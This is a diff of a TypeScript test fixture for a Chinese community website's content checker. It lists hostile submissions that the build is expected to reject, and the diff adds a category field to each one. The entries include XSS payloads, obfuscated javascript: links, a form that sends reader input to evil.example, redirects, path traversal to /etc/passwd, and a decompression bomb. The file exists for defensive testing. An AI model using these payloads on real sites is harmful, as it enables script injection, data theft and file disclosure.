@@ -2,6 +2,7 @@
  * The hostile corpus: content as someone with a stolen staff account would write it, to run code on
  * the build machine or in readers' browsers, read the machine's files, or knock the build over. Each
  * case must be refused by `npm run check` and by the build, naming the file, with dist/ untouched.
+ * Longer than our files usually are because it is a table: one entry per attack, read top to bottom.
  */
 import { deflateSync, crc32 } from 'node:zlib';
 import { appendFileSync, copyFileSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
@@ -62,19 +63,22 @@ const UNSAFE = '不安全';
 export const HOSTILE: MalformedCase[] = [
   {
     name: 'MDX 导入 node:fs，把构建机器的主机名印到页面上',
+    family: 'MDX',
     apply: asMdx("import { readFileSync } from 'node:fs';\n\n主机：{readFileSync('/etc/hostname', 'utf8')}"),
     file: MDX,
     says: '网站不接受 MDX 文件',
   },
   {
     name: 'MDX 导出环境变量',
+    family: 'MDX',
     apply: asMdx('export const secrets = process.env;\n\n{JSON.stringify(secrets)}'),
     file: MDX,
     says: '网站不接受 MDX 文件',
   },
-  { name: 'MDX 表达式', apply: asMdx('{process.env.HOME}'), file: MDX, says: '网站不接受 MDX 文件' },
+  { name: 'MDX 表达式', family: 'MDX', apply: asMdx('{process.env.HOME}'), file: MDX, says: '网站不接受 MDX 文件' },
   {
     name: '大写的 SCRIPT 标签',
+    family: '正文里的 HTML',
     apply: append('<SCRIPT>alert(1)</SCRIPT>'),
     file: STORY,
     field: '正文',
@@ -82,6 +86,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'object 标签',
+    family: '正文里的 HTML',
     apply: append('<object data="https://evil.example/x.swf"></object>'),
     file: STORY,
     field: '正文',
@@ -89,6 +94,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'embed 标签',
+    family: '正文里的 HTML',
     apply: append('<embed src="https://evil.example/x.swf">'),
     file: STORY,
     field: '正文',
@@ -96,6 +102,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'form 表单把读者的输入发到外站',
+    family: '正文里的 HTML',
     apply: append('<form action="https://evil.example/steal"><input name="phone"></form>'),
     file: STORY,
     field: '正文',
@@ -103,6 +110,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'meta refresh 把读者带到外站',
+    family: '正文里的 HTML',
     apply: append('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
     file: STORY,
     field: '正文',
@@ -110,6 +118,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'base 标签改写全部链接',
+    family: '正文里的 HTML',
     apply: append('<base href="https://evil.example/">'),
     file: STORY,
     field: '正文',
@@ -117,6 +126,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'style 标签隐藏页面',
+    family: '正文里的 HTML',
     apply: append('<style>body{display:none}</style>'),
     file: STORY,
     field: '正文',
@@ -124,14 +134,23 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'link 标签加载外站样式',
+    family: '正文里的 HTML',
     apply: append('<link rel="stylesheet" href="https://evil.example/x.css">'),
     file: STORY,
     field: '正文',
     says: '<link>',
   },
-  { name: 'svg 的 onload', apply: append('<svg onload="alert(1)"></svg>'), file: STORY, field: '正文', says: '<svg>' },
+  {
+    name: 'svg 的 onload',
+    family: '正文里的 HTML',
+    apply: append('<svg onload="alert(1)"></svg>'),
+    file: STORY,
+    field: '正文',
+    says: '<svg>',
+  },
   {
     name: '大小写混写的事件属性',
+    family: '正文里的 HTML',
     apply: append('<b OnMouseOver="alert(1)">粗体</b>'),
     file: STORY,
     field: '正文',
@@ -139,6 +158,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '全大写的事件属性',
+    family: '正文里的 HTML',
     apply: append('<details open ONTOGGLE="alert(1)"><summary>展开</summary>内容</details>'),
     file: STORY,
     field: '正文',
@@ -146,6 +166,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'style 里藏 javascript 地址',
+    family: '正文里的 HTML',
     apply: append('<p style="background:url(javascript:alert(1))">一段话</p>'),
     file: STORY,
     field: '正文',
@@ -153,6 +174,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'Markdown 链接 javascript:',
+    family: '不安全的地址',
     apply: append('[点我](javascript:alert(1))'),
     file: STORY,
     field: '正文',
@@ -160,6 +182,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '大写的 JAVASCRIPT:',
+    family: '不安全的地址',
     apply: append('[点我](JAVASCRIPT:alert(1))'),
     file: STORY,
     field: '正文',
@@ -167,6 +190,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '用字符引用拼出 javascript:',
+    family: '不安全的地址',
     apply: append('[点我](jav&#x61;script:alert(1))'),
     file: STORY,
     field: '正文',
@@ -174,14 +198,23 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'HTML 链接的协议里夹着 Tab',
+    family: '不安全的地址',
     apply: append('<a href="java&#09;script:alert(1)">点我</a>'),
     file: STORY,
     field: '正文',
     says: UNSAFE,
   },
-  { name: 'vbscript: 链接', apply: append('[点我](vbscript:msgbox(1))'), file: STORY, field: '正文', says: UNSAFE },
+  {
+    name: 'vbscript: 链接',
+    family: '不安全的地址',
+    apply: append('[点我](vbscript:msgbox(1))'),
+    file: STORY,
+    field: '正文',
+    says: UNSAFE,
+  },
   {
     name: 'data: 链接',
+    family: '不安全的地址',
     apply: append('[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
     file: STORY,
     field: '正文',
@@ -189,6 +222,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '引用式链接定义 javascript:',
+    family: '不安全的地址',
     apply: append('[点我][1]\n\n[1]: javascript:alert(1)'),
     file: STORY,
     field: '正文',
@@ -196,6 +230,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: 'data: 图片',
+    family: '不安全的地址',
     apply: append('![图](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)'),
     file: STORY,
     field: '正文',
@@ -203,6 +238,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '正文 HTML 图片带 onerror',
+    family: '正文里的 HTML',
     apply: append('<img src="x" onerror="alert(1)">'),
     file: STORY,
     field: '正文',
@@ -210,6 +246,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '队伍报名链接 javascript:',
+    family: '不安全的地址',
     apply: replaceIn(TEAM, 'signup: https://chinavolunteer.mca.gov.cn/', 'signup: javascript:alert(1)'),
     file: TEAM,
     field: 'signup',
@@ -217,6 +254,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '队伍报名链接用字符引用伪装',
+    family: '不安全的地址',
     apply: replaceIn(TEAM, 'signup: https://chinavolunteer.mca.gov.cn/', 'signup: "jav&#x61;script:alert(1)"'),
     file: TEAM,
     field: 'signup',
@@ -224,6 +262,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '队伍报名链接 vbscript:',
+    family: '不安全的地址',
     apply: replaceIn(TEAM, 'signup: https://chinavolunteer.mca.gov.cn/', 'signup: "VBScript:msgbox(1)"'),
     file: TEAM,
     field: 'signup',
@@ -231,6 +270,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '队伍报名链接 data:',
+    family: '不安全的地址',
     apply: replaceIn(
       TEAM,
       'signup: https://chinavolunteer.mca.gov.cn/',
@@ -242,6 +282,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '附件地址 javascript:',
+    family: '不安全的地址',
     apply: replaceIn(NOTICE, 'url: /files/2026/xueleifeng-haibao.jpg', 'url: "javascript:alert(1)"'),
     file: NOTICE,
     field: 'attachments[0].url',
@@ -249,6 +290,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '附件路径爬出 public/files',
+    family: '不安全的地址',
     apply: replaceIn(NOTICE, 'url: /files/2026/xueleifeng-haibao.jpg', 'url: /files/../../etc/passwd'),
     file: NOTICE,
     field: 'attachments[0].url',
@@ -256,6 +298,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '封面路径指向 /etc/passwd',
+    family: '图片和路径',
     apply: replaceIn(STORY, 'image: ./cover.jpg', 'image: ../../../../../etc/passwd'),
     file: STORY,
     field: 'cover.image',
@@ -263,6 +306,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '正文插图路径爬出文件夹',
+    family: '图片和路径',
     apply: append('![图](../../../../../etc/passwd)'),
     file: STORY,
     field: '正文',
@@ -270,6 +314,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '封面是藏着脚本的 SVG',
+    family: '图片和路径',
     apply: (d) => {
       writeFileSync(path.join(d, STORY_DIR, 'cover.svg'), SVG_WITH_SCRIPT);
       replaceIn(STORY, 'image: ./cover.jpg', 'image: ./cover.svg')(d);
@@ -280,6 +325,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '正文插图是藏着脚本的 SVG',
+    family: '图片和路径',
     apply: (d) => {
       writeFileSync(path.join(d, STORY_DIR, 'tu.svg'), SVG_WITH_SCRIPT);
       append('![图表](./tu.svg)')(d);
@@ -290,6 +336,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '号称 30000×30000 像素的图片（解压炸弹）',
+    family: '图片和路径',
     apply: (d) => {
       writeFileSync(path.join(d, STORY_DIR, 'bomb.png'), decompressionBomb());
       replaceIn(STORY, 'image: ./cover.jpg', 'image: ./bomb.png')(d);
@@ -300,30 +347,35 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '50 MB 的正文',
+    family: '大小和文件夹名',
     apply: (d) => appendFileSync(path.join(d, STORY), Buffer.alloc(50 * 1024 * 1024, 'a')),
     file: STORY,
     says: '超过了 512 KB 的上限',
   },
   {
     name: '文件夹名含 ..',
+    family: '大小和文件夹名',
     apply: moveStoryTo('dong..zhi'),
     file: 'stories/2025/dong..zhi/index.md',
     says: '只能用小写字母、数字和 -',
   },
   {
     name: '文件夹名含空格',
+    family: '大小和文件夹名',
     apply: moveStoryTo('dong zhi'),
     file: 'stories/2025/dong zhi/index.md',
     says: '只能用小写字母、数字和 -',
   },
   {
     name: '文件夹名含控制字符',
+    family: '大小和文件夹名',
     apply: moveStoryTo('dong\u0001zhi'),
     file: 'stories/2025/dong\u0001zhi/index.md',
     says: '只能用小写字母、数字和 -',
   },
   {
     name: '网站不认识的版块',
+    family: '正文里的 HTML',
     apply: append(':::script{src="x"}\nalert(1)\n:::'),
     file: STORY,
     field: '正文',
@@ -331,6 +383,7 @@ export const HOSTILE: MalformedCase[] = [
   },
   {
     name: '版块带事件属性',
+    family: '正文里的 HTML',
     apply: (d) => {
       copyFileSync(path.join(d, STORY_DIR, 'cover.jpg'), path.join(d, STORY_DIR, 'zu.jpg'));
       append(':::gallery{onclick="alert(1)"}\n\n![组图](./zu.jpg)\n\n:::')(d);
